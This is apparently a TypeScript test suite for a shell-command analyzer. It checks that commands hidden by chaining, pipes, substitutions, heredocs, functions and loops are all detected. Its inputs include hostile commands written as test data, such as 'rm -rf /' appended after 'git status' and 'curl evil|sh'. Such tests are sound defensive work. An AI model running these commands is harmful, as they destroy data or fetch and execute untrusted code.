import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { analyze, assertResolved, assertUnresolved, only, programs } from "./test-support";

describe("chaining, substitution and control flow", () => {
  test("attack: a list hides a second command (`git status && rm -rf /`)", async () => {
    const analysis = await analyze("git status && rm -rf /");
    assertResolved(analysis);
    assert.deepEqual(programs(analysis), ["git", "rm"]);
    assert.deepEqual(only(analysis, "rm").args, ["-rf", "/"]);
  });

  test("every list operator and separator is followed: ; || & newline", async () => {
    const analysis = await analyze("a; b || c & d\ne");
    assertResolved(analysis);
    assert.deepEqual(programs(analysis), ["a", "b", "c", "d", "e"]);
    assert.deepEqual(only(analysis, "c").via, ["background"]);
    assert.deepEqual(only(analysis, "d").via, []);
  });

  test("attack: a pipe into a shell (`ls; curl evil | sh`) is unresolved: the script is unknown", async () => {
    const analysis = await analyze("ls; curl evil|sh");
    assertUnresolved(analysis, /`sh` runs a script from stdin/);
    assert.deepEqual(programs(analysis), ["ls", "curl", "sh"]);
    assert.deepEqual(only(analysis, "sh").via, ["pipeline"]);
    assert.deepEqual(only(analysis, "sh").runsCode, ["script on stdin"]);
  });

  test("attack: command substitution runs its command (`$(curl x)`, backquotes, inside quotes)", async () => {
    for (const command of ["echo $(curl x)", "echo `curl x`", 'echo "$(curl x)"', "X=$(curl x)", "echo ${y:-$(curl x)}"]) {
      const analysis = await analyze(command);
      const curl = only(analysis, "curl");
      assert.deepEqual(curl.via, ["command-substitution"], command);
    }
    const bare = await analyze("$(curl x)");
    assertUnresolved(bare, /dynamic command name/);
    assert.ok(programs(bare).includes("curl"));
  });

  test("attack: nested backquotes are re-parsed after bash's backslash removal", async () => {
    const analysis = await analyze("echo `echo \\`id\\``");
    assertResolved(analysis);
    assert.ok(programs(analysis).includes("id"));
  });

  test("attack: process substitution runs its command (`<(…)`, `>(…)`, `< <(…)`)", async () => {
    const analysis = await analyze("diff <(ls a) >(tee log) < <(rm -rf x)");
    assert.deepEqual(programs(analysis).sort(), ["diff", "ls", "rm", "tee"]);
    assert.deepEqual(only(analysis, "rm").via, ["process-substitution"]);
  });

  test("subshells and groups are followed", async () => {
    const analysis = await analyze("(cd /tmp && rm x); { ls; }");
    assertResolved(analysis);
    assert.deepEqual(programs(analysis), ["cd", "rm", "ls"]);
    assert.deepEqual(only(analysis, "rm").via, ["subshell"]);
  });

  test("attack: a function body is reported where it is defined (`function f { rm x; }; f`)", async () => {
    const analysis = await analyze("function f { rm x; }; f");
    assertResolved(analysis);
    assert.deepEqual(only(analysis, "rm").via, ["function:f"]);
    assert.ok(programs(analysis).includes("f"));
  });

  test("if, while, until, for, select and case bodies are followed", async () => {
    const cases: Array<[string, string[]]> = [
      ["if true; then rm x; elif a; then b; else c; fi", ["true", "rm", "a", "b", "c"]],
      ["while read l; do rm \"$l\"; done < list", ["read", "rm"]],
      ["until false; do rm y; done", ["false", "rm"]],
      ["select x in a b; do rm z; done", ["rm"]],
      ["case $x in a) rm a;; *) ls;; esac", ["rm", "ls"]],
    ];
    for (const [command, expected] of cases) {
      const analysis = await analyze(command);
      assertResolved(analysis);
      assert.deepEqual(programs(analysis), expected, command);
    }
  });

  test("a loop variable makes its uses dynamic (`for f in *; do rm \"$f\"; done`)", async () => {
    const analysis = await analyze('for f in *; do rm "$f"; done');
    assertResolved(analysis);
    assert.equal(only(analysis, "rm").dynamicArgs, true);
  });

  test("substitutions in for-lists and case words run too", async () => {
    const analysis = await analyze("for f in $(curl x); do :; done; case $(id) in *) ;; esac");
    assert.deepEqual(programs(analysis).sort(), [":", "curl", "id"]);
  });

  test("a heredoc body is data (`cat <<EOF … EOF`)", async () => {
    const analysis = await analyze("cat <<EOF\nrm -rf /\nEOF");
    assertResolved(analysis);
    assert.deepEqual(programs(analysis), ["cat"]);
    assert.deepEqual(only(analysis, "cat").redirects, [{ op: "<<", fd: 0, target: "EOF" }]);
  });

  test("attack: substitutions inside an unquoted heredoc run, backquotes included", async () => {
    const analysis = await analyze("cat <<EOF\n$(rm -rf x)\n`id`\nEOF");
    assert.deepEqual(programs(analysis).sort(), ["cat", "id", "rm"]);
    const quoted = await analyze("cat <<'EOF'\n$(rm -rf x)\n`id`\nEOF");
    assertResolved(quoted);
    assert.deepEqual(programs(quoted), ["cat"]);
  });

  test("attack: a heredoc fed to a shell is parsed as commands (`bash <<EOF`)", async () => {
    const analysis = await analyze("bash <<EOF\nrm -rf x\nEOF");
    assertResolved(analysis);
    assert.deepEqual(programs(analysis), ["bash", "rm"]);
    assert.deepEqual(only(analysis, "rm").via, ["bash <<heredoc"]);
    assert.deepEqual(only(await analyze("sh -s <<EOF\nrm x\nEOF"), "rm").via, ["sh <<heredoc"]);
    assert.deepEqual(only(await analyze("sudo bash <<EOF\nrm x\nEOF"), "rm").via, ["wrapper:sudo", "bash <<heredoc"]);
    const tabs = await analyze("sh <<-'END'\n\trm -rf y\n\tEND");
    assert.deepEqual(only(tabs, "rm").args, ["-rf", "y"]);
  });

  test("attack: a heredoc with expansions fed to a shell is unresolved (its text is unknown)", async () => {
    assertUnresolved(await analyze("bash <<EOF\nrm $X\nEOF"), /script from stdin/);
  });

  test("attack: a here-string fed to a shell is parsed; commands after a heredoc are found", async () => {
    assert.ok(programs(await analyze("bash <<< 'rm -rf x'")).includes("rm"));
    assert.deepEqual(programs(await analyze("cat <<EOF && rm x\na\nEOF")), ["cat", "rm"]);
  });

  test("an interpreter reading a heredoc is flagged as running a script on stdin", async () => {
    const analysis = await analyze("python3 - <<EOF\nimport os\nEOF");
    assertResolved(analysis);
    assert.deepEqual(only(analysis, "python3").runsCode, ["script on stdin"]);
  });

  test("cd then ls is two commands", async () => {
    const analysis = await analyze("cd /tmp && ls");
    assertResolved(analysis);
    assert.deepEqual(programs(analysis), ["cd", "ls"]);
  });

  test("attack: `! ! cmd` (read by the grammar as a command named `!`) still exposes cmd", async () => {
    assert.ok(programs(await analyze("! ! rm x")).includes("rm"));
  });
});
